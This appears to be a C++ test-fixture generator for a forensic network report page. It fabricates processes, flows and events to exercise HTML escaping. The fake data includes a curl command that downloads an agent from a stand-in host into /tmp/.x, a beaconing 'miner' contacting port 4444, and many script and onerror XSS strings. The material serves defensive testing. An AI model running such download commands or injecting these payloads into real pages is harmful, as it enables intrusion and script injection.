// SPDX-License-Identifier: GPL-2.0-only
//
// made_up_page [FLOWS]: the page of a report that no file is behind, on stdout: processes with
// hostile names, FLOWS conversations (default 400, at least 11), every kind of traffic, events; 0:
// events alone. For the tests in a browser, and to see what the page looks like. The same each
// time.
#include <fmt/format.h>

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <deque>
#include <memory>
#include <random>
#include <string>
#include <vector>

#include "forensics/report/report_page.h"
#include "packet/event/frame.h"

namespace {

using namespace forensics;

constexpr uint64_t kStart = 1'763'650'800'123'456'789;  // 2025-11-20 15:00:00.123456789 UTC
constexpr uint64_t kSecond = 1'000'000'000;
constexpr uint64_t kDuration = 600 * kSecond;

struct Program {
    const char* comm;
    const char* exe;
    const char* cmdline;
    const char* user;
    uint32_t pid;
    uint32_t ppid;
    double weight;  // how much of the traffic
};

// The parents of 1 and 900 aren't among them.
const Program kPrograms[] = {
    {"systemd", "/usr/lib/systemd/systemd", "/sbin/init", "root", 1, 0, 0},
    {"nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx", "root", 640, 1, 0},
    {"nginx", "/usr/sbin/nginx", "nginx: worker process", "www-data", 641, 640, 8},
    {"nginx", "/usr/sbin/nginx", "nginx: worker process", "www-data", 642, 640, 6},
    {"postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres -D /var/lib/postgresql/15/main",
     "postgres", 700, 1, 4},
    {"sshd", "/usr/sbin/sshd", "sshd: alice [priv]", "root", 810, 1, 1},
    {"bash", "/usr/bin/bash", "-bash", "alice", 815, 810, 0},
    {"curl", "/usr/bin/curl", "curl -fsSL https://updates.example.net/agent.tar.gz -o /tmp/.x",
     "alice", 1200, 815, 5},
    {".x", "/tmp/.x/agent (deleted)", "/tmp/.x/agent --beacon 60", "alice", 1207, 815, 2},
    {"systemd-resolve", "/usr/lib/systemd/systemd-resolved", "/lib/systemd/systemd-resolved",
     "systemd-resolve", 300, 1, 0.3},
    {"python3", "/usr/bin/python3.11", "python3 /srv/app/worker.py --queue mail", "app", 901, 900,
     3},
    {"<script>alert(1)</script>", "/home/mallory/<img src=x onerror=alert(2)>",
     "</script><script>alert(3)</script><!-- \"'&lt;", "mallory", 4000, 815, 2},
    {"evil\xE2\x80\xAEgnp.exe", "/dev/shm/\x1b[31mred\xff\xfe",
     "a\nb\tc\xE2\x80\xA8"
     "d\xE2\x80\xA9",
     "\xE2\x80\xAEtoor", 4001, 4000, 1},
    {"\xD7\xA9\xD7\x9C\xD7\x95\xD7\x9D", "/opt/\xE6\x97\xA5\xE6\x9C\xAC/\xE8\xAA\x9E",
     "@DATA@ %41 \\u003c", "\xF0\x9F\xA6\x8A", 4002, 1, 1},
    {"__proto__", "/usr/bin/constructor", "toString", "hasOwnProperty", 4003, 1, 0.5},
    {"dnsmasq", "/usr/sbin/dnsmasq", "dnsmasq", "nobody", 520, 1, 0.4},
    {"chronyd", "/usr/sbin/chronyd", "chronyd", "_chrony", 530, 1, 0.1},
};

Address address(std::initializer_list<uint8_t> bytes) {
    Address made;
    for (const uint8_t byte : bytes) {
        made.bytes[made.length++] = byte;
    }
    return made;
}

class MadeUp {
  public:
    explicit MadeUp(size_t flows) : flow_count_(flows) {
        for (const Program& program : kPrograms) {
            Process& process = processes_.emplace_back();
            process.number = static_cast<uint32_t>(processes_.size() - 1);
            process.pid = program.pid;
            if (program.ppid != 0) {
                process.ppid = program.ppid;
            }
            process.parent_comm = program.ppid == 900 ? "containerd-shim" : "";
            process.container =
                program.ppid == 900
                    ? "3f2a9c0d1e4b5a6978877665544332211ffeeddccbbaa99887766554433221100"
                    : "";
            if (!process.container.empty()) {
                process.container_name = "cart";
                process.container_image = "registry.example.org/store/cart:2.4";
                process.pod_name = "shop-7d4b9c-x2x7p";
                process.pod_namespace = "store";
            }
            process.unit = program.pid == 640 || program.ppid == 640 ? "nginx.service" : "";
            process.cgroup = "/system.slice/" + process.unit;
            process.start_ns = kStart - 3600 * kSecond + program.pid * kSecond / 10;
            process.uid = program.pid % 7 == 0 ? 0 : 1000;
            process.comm = program.comm;
            process.exe = program.exe;
            process.cmdline = program.cmdline;
            process.user = program.user;
            process.netns = 4026531840;
            process.nspid = program.ppid == 900 ? 7 : program.pid;
            ProcessTraffic& traffic = traffic_.emplace_back();
            traffic.process = program.weight > 0 ? &process : nullptr;
        }
    }

    std::string page() {
        Report report;
        if (flow_count_ > 0) {
            add_traffic();
            report.first_ns = kStart;
            report.last_ns = kStart + kDuration;
        }
        report.file = "/evidence/<b>host-17</b>.pcapng";
        report.problems = {
            "/evidence/host-17.pcapng: byte 73400320: the block's length, 12, is "
            "less than its header: <script>alert(4)</script>"};
        report.total = total_;
        report.unattributed = unattributed_;
        report.traffic = timeline_.traffic(kReportSeries);
        add_processes(report, processes_, traffic_);
        add_flows(report, flows_);
        forensics::add_questions(report, questions_, flows_);
        add_events(report);
        return page_of(report);
    }

  private:
    void add_traffic() {
        for (size_t i = 0; i + kQuietFlows < flow_count_; ++i) {
            add_flow(i);
        }
        add_questions();
        add_failures();
        add_unattributed();
    }

    uint64_t up_to(uint64_t most) { return random_() % (most + 1); }

    size_t pick() {
        double all = 0;
        for (const Program& program : kPrograms) {
            all += program.weight;
        }
        double at = static_cast<double>(up_to(1'000'000)) / 1e6 * all;
        for (size_t i = 0; i < std::size(kPrograms); ++i) {
            at -= kPrograms[i].weight;
            if (at < 0) {
                return i;
            }
        }
        return 2;
    }

    void packet(const Process* process, At at, uint64_t time, uint32_t bytes) {
        Packet packet;
        packet.time_ns = time;
        packet.wire_length = bytes;
        packet.self.process = process;
        packet.self_at = at;
        timeline_.add(packet);
        total_.add(packet);
        if (process != nullptr) {
            ProcessTraffic& traffic = traffic_[process->number];
            (at == At::kSender ? traffic.sent : traffic.received).add(packet);
            traffic.first_ns = std::min(traffic.first_ns.value_or(time), time);
            traffic.last_ns = std::max(traffic.last_ns.value_or(time), time);
            ++(time % 5 == 0 ? traffic.inferred : traffic.direct);
        }
    }

    void add_flow(size_t number) {
        const Process& process = processes_[pick()];
        const bool server = process.comm == "nginx" || process.comm == "sshd";
        Flow& flow = flows_.emplace_back();
        flow.number = number;
        const auto kind = up_to(9);
        flow.protocol = process.comm == "dnsmasq" || kind == 0 ? 17 : 6;
        const size_t own = server ? 1 : 0;
        Side& local = flow.sides[own];
        Side& remote = flow.sides[1 - own];
        local.processes.add(process, 0, pool_);
        local.address = address({10, 0, 3, 17});
        local.port = static_cast<uint16_t>(server ? 443 : 32768 + up_to(28000));
        remote.port = static_cast<uint16_t>(server ? 32768 + up_to(28000) : 443);
        const auto host = static_cast<uint8_t>(up_to(40));
        remote.address =
            host < 8 ? address({0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, host, 0x17})
                     : address({203, 0, 113, host});
        if (!server) {
            flow.dns_name = names_.emplace_back(fmt::format("host{}.example.net", host));
            flow.server_name = flow.protocol == 6 ? flow.dns_name : std::string_view();
            if (host == 9) {
                flow.dns_name = flow.server_name = "<img src=x onerror=alert(5)>.example";
            }
        }
        const uint64_t at = up_to(kDuration - 60 * kSecond);
        const auto wave = 1.2 + std::sin(static_cast<double>(at) / 4e10);
        const auto packets = 2 + static_cast<uint64_t>(static_cast<double>(up_to(60)) * wave);
        const uint64_t gap = up_to(kSecond / 2) + 1000;
        flow.first_ns = kStart + at;
        flow.last_ns = kStart + at + (packets - 1) * gap;
        for (uint64_t i = 0; i < packets; ++i) {
            const bool sent = up_to(2) == 0;
            const auto bytes = static_cast<uint32_t>(60 + up_to(1454));
            Side& side = sent ? local : remote;
            ++side.packets;
            side.bytes += bytes;
            packet(&process, sent ? At::kSender : At::kReceiver, kStart + at + i * gap, bytes);
        }
        if (flow.protocol == 6) {
            constexpr FlowState kStates[] = {FlowState::kOpening, FlowState::kEstablished,
                                             FlowState::kClosed, FlowState::kReset};
            flow.state = kStates[up_to(3)];
            flow.handshake_rtt_ns = 200'000 + up_to(40'000'000);
            local.retransmissions = up_to(20) == 0 ? up_to(9) : 0;
        }
        ProcessTraffic& traffic = traffic_[process.number];
        ++traffic.flows;
        traffic.peers = std::min<uint64_t>(traffic.flows, 40);
    }

    Flow& add_quiet_flow(uint32_t pid, uint8_t protocol, Address remote, uint16_t port,
                         uint64_t at) {
        const auto process = std::find_if(processes_.begin(), processes_.end(),
                                          [&](const Process& one) { return one.pid == pid; });
        Flow& flow = flows_.emplace_back();
        flow.number = flows_.size() - 1;
        flow.protocol = protocol;
        flow.sides[0].processes.add(*process, 0, pool_);
        flow.sides[0].address = address({10, 0, 3, 17});
        flow.sides[0].port = static_cast<uint16_t>(40000 + flow.number % 20000);
        flow.sides[0].packets = 1;
        flow.sides[0].bytes = 74;
        flow.sides[1].address = remote;
        flow.sides[1].port = port;
        flow.first_ns = kStart + at;
        flow.last_ns = kStart + at + kSecond;
        return flow;
    }

    // curl asks for an address that is there and one that isn't, dnsmasq often for one that fails.
    void add_questions() {
        const Address server = address({10, 0, 3, 1});
        const auto ask = [&](uint32_t pid, const std::string& name, uint16_t type, uint8_t rcode,
                             size_t times) {
            Flow& flow = add_quiet_flow(pid, 17, server, 53, 10 * kSecond);
            flow.dns_question = names_.emplace_back(name);
            packet::DnsMessage message{.asked = {{.name = name, .type = type}}};
            for (size_t i = 0; i < times; ++i) {
                questions_.add(flow.number, 0, message);
            }
            message.is_answer = true;
            message.rcode = rcode;
            questions_.add(flow.number, 0, message);
        };
        ask(1200, "updates.example.net", 1, 0, 1);
        ask(1200, "updates.example.net", 28, 0, 2);
        ask(1200, "Missing.Example.net", 1, 3, 1);
        ask(520, "broken.example", 65, 2, 1234);
        ask(4000, "<img src=x onerror=alert(6)>.example", 65280, 5, 1);
    }

    void add_failures() {
        const auto fail = [&](Handshake how, uint32_t pid, Address remote, uint16_t port,
                              uint64_t at) {
            add_quiet_flow(pid, 6, remote, port, at).handshake = how;
        };
        for (uint64_t i = 0; i < 3; ++i) {
            fail(Handshake::kRefused, 1207, address({203, 0, 113, 99}), 4444, (60 + i) * kSecond);
        }
        fail(Handshake::kUnanswered, 1207, address({203, 0, 113, 98}), 4444, 5 * kSecond);
        fail(Handshake::kAnswered, 901,
             address({0x20, 0x01, 0x0d, 0xb8, 0xaa, 0xaa, 0xbb, 0xbb, 0xcc, 0xcc, 0xdd, 0xdd, 0xee,
                      0xee, 0xff, 0xff}),
             25, 70 * kSecond);
        fail(Handshake::kAborted, 4000, address({203, 0, 113, 97}), 22, 80 * kSecond);
    }

    // Of processes with and without traffic, and of none.
    void add_events(Report& report) {
        forensics::ReportedEvents events;
        forensics::Interface interface;
        const auto add = [&](const std::string& name, const packet::EventLayout& layout,
                             const Process* process, uint64_t at, const auto& fill) {
            interface.name = name;
            interface.event = std::make_shared<const packet::EventLayout>(layout);
            packet::EventRecord record(interface.event);
            fill(record);
            std::vector<uint8_t> frame;
            packet::append_frame(frame, record.bytes());
            Packet event;
            event.time_ns = kStart + at;
            event.interface = &interface;
            event.data = frame;
            event.self.process = process;
            events.add(event);
            for (ProcessTraffic& traffic : traffic_) {
                if (process != nullptr && traffic.process == process) {
                    traffic.outcome.add(event);
                }
            }
        };
        using packet::FieldKind;
        const packet::EventLayout connect = packet::lay_out(
            {{.name = "errno", .size = 4, .values = {{110, "ETIMEDOUT"}, {111, "ECONNREFUSED"}}},
             {.name = "remote", .kind = FieldKind::kSocketAddress, .size = 28}});
        const auto failed = [&](const Process* process, uint64_t at, uint32_t error) {
            add("socket:connect", connect, process, at, [&](packet::EventRecord& record) {
                record.set_number("errno", error);
                record.set_address("remote", {.address = address({203, 0, 113, 99}), .port = 4444});
            });
        };
        const Process* miner = process_of(1207);
        quiet_.number = 999;
        quiet_.pid = 77;
        quiet_.comm = "<img src=x onerror=alert(7)>";
        traffic_.emplace_back().process = &quiet_;
        failed(miner, 60 * kSecond, 111);
        failed(&quiet_, 61 * kSecond, 110);
        failed(miner, 62 * kSecond, 111);
        failed(miner, 63 * kSecond, 0);  // none
        const packet::EventLayout drop =
            packet::lay_out({{.name = "reason", .size = 4, .values = {{8, "NETFILTER_DROP"}}},
                             {.name = "symbol", .kind = FieldKind::kString, .size = 4},
                             {.name = "device", .kind = FieldKind::kChars, .size = 16}});
        add("drop:packet", drop, nullptr, 5 * kSecond, [](packet::EventRecord& record) {
            record.set_number("reason", 8);
            record.set_text("symbol", "nft_do_chain");
            record.set_text("device", "eth0");
        });
        const packet::EventLayout fork = packet::lay_out({{.name = "ppid", .size = 4}});
        add("process:fork", fork, &quiet_, 30 * kSecond,
            [](packet::EventRecord& record) { record.set_number("ppid", 815); });
        const packet::EventLayout exit =
            packet::lay_out({{.name = "exit_code", .size = 4},
                             {.name = "signal", .size = 4, .values = {{9, "SIGKILL"}}},
                             {.name = "exe", .kind = FieldKind::kString, .size = 4}});
        add("process:exit", exit, &quiet_, 90 * kSecond, [](packet::EventRecord& record) {
            record.set_number("signal", 9);
            record.set_text("exe", "</title><script>alert(8)</script>");
        });
        add("process:exit", exit, process_of(1200), 300 * kSecond,
            [](packet::EventRecord& record) { record.set_number("exit_code", 7); });
        // More than the page can have the times of, within the span of one of its bins.
        for (uint64_t i = 0; i < 5000; ++i) {
            add("sched:<b>switch", fork, miner, 120 * kSecond + i * 10'000,
                [](packet::EventRecord&) {});
        }
        add_samples(add, miner);
        forensics::add_events(report, events, traffic_);
    }

    // Of one process with traffic and one without: it uses half a CPU, then a quarter.
    template <typename Add>
    void add_samples(const Add& add, const Process* miner) {
        const packet::EventLayout sample =
            packet::lay_out({{.name = "rss", .size = 8},
                             {.name = "interval_ns", .size = 8},
                             {.name = "interval_user_ns", .size = 8},
                             {.name = "interval_system_ns", .size = 8}});
        for (uint64_t i = 0; i < 60; ++i) {
            for (const Process* process : {miner, static_cast<const Process*>(&quiet_)}) {
                add("process:sample", sample, process, 60 * kSecond + i * kSecond,
                    [&](packet::EventRecord& record) {
                        record.set_number("rss", (process == miner ? 200'000'000 : 3'000'000) + i);
                        record.set_number("interval_ns", kSecond);
                        record.set_number("interval_user_ns", kSecond / (i < 30 ? 2 : 4));
                        record.set_number("interval_system_ns", process == miner ? 10'000'000 : 0);
                    });
            }
        }
    }

    const Process* process_of(uint32_t pid) const {
        return &*std::find_if(processes_.begin(), processes_.end(),
                              [pid](const Process& process) { return process.pid == pid; });
    }

    void add_unattributed() {
        for (uint64_t i = 0; i < 900; ++i) {
            Packet of;
            of.wire_length = static_cast<uint32_t>(60 + up_to(200));
            packet(nullptr, At::kUnknown, kStart + up_to(kDuration), of.wire_length);
            (i % 3 == 0   ? unattributed_.kernel
             : i % 5 == 0 ? unattributed_.forwarded
             : i % 7 == 0 ? unattributed_.unknown
                          : unattributed_.silent)
                .add(of);
        }
    }

    static constexpr size_t kQuietFlows = 11;  // of add_questions() and add_failures()

    size_t flow_count_;
    std::mt19937_64 random_{17};
    std::deque<Process> processes_;
    Process quiet_;  // without traffic
    std::deque<ProcessTraffic> traffic_;
    std::deque<std::string> names_;
    std::deque<Flow> flows_;
    DnsQuestions questions_;
    Participants::Pool pool_;
    Timeline timeline_;
    Amount total_;
    Unattributed unattributed_;
};

}  // namespace

int main(int argc, char** argv) {
    const size_t flows = argc > 1 ? std::strtoul(argv[1], nullptr, 10) : 400;
    fmt::print("{}", MadeUp(flows).page());
}
